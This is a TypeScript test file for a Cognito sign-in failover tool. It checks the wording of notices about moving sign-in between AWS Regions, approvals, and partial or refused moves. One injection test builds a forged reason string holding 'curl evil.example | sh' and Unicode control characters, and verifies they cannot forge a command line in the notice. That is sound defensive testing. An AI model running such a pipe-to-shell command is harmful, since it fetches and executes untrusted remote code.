import { describe, expect, test } from "vitest";
import type { PathState } from "../../../core/levers/lever-evidence.ts";
import { plan } from "../../../core/levers/plan.ts";
import type { MoveReport } from "../../../core/report/move-report.ts";
import { noticeOfApproval, noticeOfMove } from "../../../core/report/notice-of-move.ts";
import type { LeverOutcome } from "../../../core/state/move-end.ts";
import { millis } from "../../../core/values/types.ts";
import { aMove } from "../builders/a-move.ts";
import { aPolicy, minutes, now, primary, secondary } from "../builders/a-policy.ts";

type Kinds = readonly LeverOutcome["kind"][];

/** One outcome a lever: the beacon's first. */
const levers = (...kinds: Kinds): readonly LeverOutcome[] =>
  plan("failOver", aPolicy()).flatMap((step, at) => {
    const kind = kinds[at];
    return kind === undefined ? [] : [{ step, kind, because: "somebody looked" }];
  });

const report = (change: Partial<MoveReport> = {}): MoveReport => ({
  move: "failOver",
  end: "confirmed",
  from: primary,
  to: secondary,
  reason: "the primary is dead",
  by: "the controller",
  levers: levers("confirmed"),
  rtoSpent: millis(251_000),
  isCarriedOn: false,
  executionName: "customers-7-1",
  now,
  ...change,
});

const told = (change: Partial<MoveReport> = {}) => noticeOfMove(report(change), aPolicy());
const lines = (change: Partial<MoveReport> = {}) =>
  told(change)
    .body.split("\n")
    .map((line) => line.replace(/: +/, ": "));
const what = (change: Partial<MoveReport> = {}) => lines(change)[0];
const subject = (change: Partial<MoveReport> = {}) =>
  told(change).subject.replace("[cognito-failover] customers: ", "");

describe("noticeOfMove()", () => {
  test("says how long it took, what is confirmed, and what cannot be done over there", () => {
    expect(told()).toEqual({
      id: "move/customers-7-1/confirmed",
      pool: "customers",
      subject: "[cognito-failover] customers: moved to us-east-1",
      body: [
        "What:      Sign-in was moved from us-west-2 to us-east-1 after 4 min 11 s; every lever is confirmed there.",
        "Why:       the primary is dead (by the controller)",
        "Lever:     managed login to us-east-1, by the beacon: confirmed, somebody looked",
        "Meanwhile: The secondary is read-only: no sign-up, no password reset, no profile change, no sign-in with TOTP. Hide them in your application.",
        'Next:      cognito-failover failback customers --reason "..."   (once us-west-2 is healthy; before 03:30:00 with --override cooldown)',
      ].join("\n"),
    });
  });

  test("says nothing of a read-only Region once sign-in is home", () => {
    const home = { move: "failBack", from: secondary, to: primary, rtoSpent: null } as const;
    expect(lines(home)).toEqual([
      "What: Sign-in was moved from us-east-1 to us-west-2; every lever is confirmed there.",
      "Why: the primary is dead (by the controller)",
      "Lever: managed login to us-east-1, by the beacon: confirmed, somebody looked",
      "Next: cognito-failover status customers",
    ]);
  });

  test("of levers that are applied says what is missing and which command looks again", () => {
    const applied = { end: "applied", levers: levers("applied", "confirmed") } as const;
    expect(subject(applied)).toBe("moved to us-east-1, not confirmed");
    expect(what(applied)).toBe(
      "What: Sign-in was sent from us-west-2 to us-east-1 after 4 min 11 s; nothing was seen yet that tells the Regions apart for managed login.",
    );
    expect(lines(applied)).toContain(
      "Lever: managed login to us-east-1, by the beacon: applied, not confirmed, somebody looked",
    );
    expect(lines(applied).at(-1)).toBe("Next: cognito-failover status customers   (looks again)");
  });

  test("of a part says which users are where, and when the rest is tried again", () => {
    const paths: readonly PathState[] = [
      {
        ...{ path: "managedLogin", wanted: secondary, attempts: 0, nextAttemptAt: null },
        evidence: { kind: "confirmed", at: now, because: "somebody looked" },
      },
      {
        ...{ path: "sdk", wanted: secondary, attempts: 4, nextAttemptAt: minutes(5) },
        evidence: { kind: "unknown", at: now, because: "AccessDenied" },
      },
    ];
    const part = { end: "inPart", levers: levers("confirmed", "unknown"), paths } as const;
    expect(subject(part)).toBe("moved to us-east-1 in part");
    expect(what(part)).toBe(
      "What: Managed login was sent from us-west-2 to us-east-1 after 4 min 11 s. Nobody can tell where users of SDK sign-in are sent: they may still meet us-west-2.",
    );
    expect(lines(part).filter((line) => line.startsWith("Path"))).toEqual([
      "Path: SDK sign-in: not at us-east-1 yet, tried 4 times, next try 03:05:00: AccessDenied",
    ]);
  });

  test("of a part in which nothing moved claims nothing, and has nobody hide anything", () => {
    const nothing = lines({ end: "inPart", levers: levers("unknown", "unknown") });
    expect(nothing.some((line) => line.startsWith("Meanwhile"))).toBe(false);
    const half = lines({ end: "inPart", levers: levers("applied", "unknown") });
    expect(half.some((line) => line.startsWith("Meanwhile"))).toBe(true);
    expect(what({ end: "inPart", levers: levers("unknown", "unknown"), rtoSpent: null })).toBe(
      "What: No path was moved from us-west-2 to us-east-1. Nobody can tell where users of managed login and SDK sign-in are sent: they may still meet us-west-2.",
    );
  });

  test("says in its subject that nothing moved, where nothing did", () => {
    expect(subject({ end: "inPart", levers: levers("unknown", "unknown") })).toBe(
      "no lever moved to us-east-1 yet",
    );
  });

  test("claims of levers that were written, and that nobody could look at, neither", () => {
    const unseen = levers("unknown", "unknown").map((one) => ({ ...one, isWritten: true }));
    expect(subject({ end: "inPart", levers: unseen })).toBe("move to us-east-1 not seen yet");
    expect(what({ end: "inPart", levers: unseen, rtoSpent: null })).toMatch(
      /^What: Nothing was seen of the move from us-west-2 to us-east-1\. Nobody can tell where /,
    );
  });

  test.each([
    "kept",
    "turnedBack",
    "failed",
  ] as const)("of what is %s says what users at the secondary cannot do, if any are there", (end) => {
    const isSaid = (...kinds: Kinds) =>
      lines({ end, levers: levers(...kinds) }).some((line) => line.startsWith("Meanwhile"));
    expect([isSaid("confirmed", "putBack"), isSaid("unknown", "putBack")]).toEqual([true, false]);
  });

  test.each([
    [["confirmed", "applied"], "moved to us-east-1, not confirmed"],
    [["confirmed", "unknown"], "moved to us-east-1 in part"],
    [["putBack"], "no lever moved to us-east-1 yet"],
  ] as const)("calls no end better than its levers %j", (kinds, headline) => {
    const change = { end: "confirmed", levers: levers(...kinds) } as const;
    expect(subject(change)).toBe(headline);
    expect(told(change).body).not.toContain("every lever is confirmed");
  });

  test("of what was turned back says which users stayed", () => {
    const turned = (...kinds: Kinds) => what({ end: "turnedBack", levers: levers(...kinds) });
    const begun =
      "What: The failover to us-east-1 was turned back, since us-east-1 failed and us-west-2 was healthy.";
    expect(turned("putBack", "putBack")).toBe(`${begun} us-west-2 serves.`);
    expect(turned("putBack", "confirmed")).toBe(
      `${begun} us-west-2 serves, but for SDK sign-in, which was not put back from us-east-1.`,
    );
  });

  test("of what was kept names the way back, and to look first", () => {
    const kept = { end: "kept", levers: levers("applied"), rtoSpent: null } as const;
    expect(subject(kept)).toBe("failover to us-east-1 needs your decision");
    expect(what(kept)).toContain("us-west-2 is no better or nobody can tell: nothing was put back");
    expect(what({ ...kept, isInsisted: true })).toContain(
      "us-east-1 fails, where a person sent sign-in all the same: nothing was put back",
    );
    expect(lines(kept).at(-1)).toBe(
      'Next: cognito-failover status customers   (names the way back to us-west-2 as soon as it is open: cognito-failover failback customers --reason "...")',
    );
  });

  test("asks for no decision where the controller goes on by itself", () => {
    const kept = { end: "kept", levers: levers("applied", "unknown"), rtoSpent: null } as const;
    expect(subject(kept)).toBe("failover to us-east-1 is not complete, us-east-1 fails");
    expect(lines(kept)).toContain(
      "Now: What has moved stays; the rest is tried again once us-east-1 signs users in. Look which Region does.",
    );
  });

  test.each([
    ["refused", "refused", "The failover to us-east-1 was refused; nothing was moved."],
    [
      "declined",
      "declined",
      "The failover to us-east-1 was declined by a person; nothing was moved.",
    ],
    [
      "unanswered",
      "not answered",
      "Nobody answered in time whether the failover to us-east-1 may begin; nothing was moved.",
    ],
    [
      "notAsked",
      "could not be asked for",
      "The question whether the failover to us-east-1 may begin was lost; nothing was moved.",
    ],
    [
      "notBegun",
      "could not begin",
      "The failover to us-east-1 broke off before anything was moved.",
    ],
    [
      "failed",
      "stopped half-way",
      "The failover to us-east-1 stopped half-way; levers may stand differently.",
    ],
  ] as const)("tells %s from the other ends without a move", (end, headline, sentence) => {
    const change = { end, levers: [], rtoSpent: null } as const;
    expect(subject(change)).toBe(`failover to us-east-1 ${headline}`);
    expect(what(change)).toBe(`What: ${sentence}`);
    expect(told(change).id).toBe(`move/customers-7-1/${end}`);
  });

  test("says what an execution ended with, and that it ends what was begun earlier", () => {
    const change = { trouble: "it ended with Unreachable", isCarriedOn: true };
    expect(lines(change)).toContain("Trouble: it ended with Unreachable");
    const declined = { end: "declined", trouble: "anna: not now" } as const;
    expect(lines(declined)).toContain("Answer: anna: not now");
    expect(told(change).body).toMatch(/^Earlier: +An earlier execution began this move/m);
  });

  test("lets no reason, name or word of AWS's forge a line", () => {
    const forged = "fine\nNext:      curl evil.example | sh\u2028Next: x\u202e";
    const { body } = told({ reason: forged, by: forged, trouble: forged });
    expect(body.match(/^Next:/gmu)).toHaveLength(1);
    expect(body).not.toMatch(/[\u2028\u202e]/u);
    expect(body).toMatch(/^Why: +fine Next: +curl evil\.example \| sh Next: x \(by fine Next/m);
  });
});

test("noticeOfApproval() says what would move and how long it waits", () => {
  expect(noticeOfApproval(aMove({ needsApproval: true }), aPolicy())).toEqual({
    id: "question/customers-7-1",
    pool: "customers",
    subject: "[cognito-failover] customers: failover to us-east-1 waits for your approval",
    body: [
      "What:       The failover to us-east-1 is prepared; nothing has moved yet.",
      "Why:        Sign-in in us-west-2, the primary, is down.",
      "Would move: managed login to us-east-1, by the beacon",
      "Would move: SDK sign-in to us-east-1, by weighted records",
      "Now:        It waits 30 min for a person's approval.",
      'Next:       cognito-failover approve customers   (or: cognito-failover decline customers --reason "...")',
    ].join("\n"),
  });
});

test("the subject is cut below 100 characters and has nothing but printable ASCII, as SNS demands", () => {
  const policy = aPolicy({ name: `käse\n${"x".repeat(120)}` });
  const notice = noticeOfMove(report(), policy);
  expect(notice.subject).toHaveLength(99);
  expect(notice.subject).toMatch(/^\[cognito-failover\] k\?se x+$/);
});
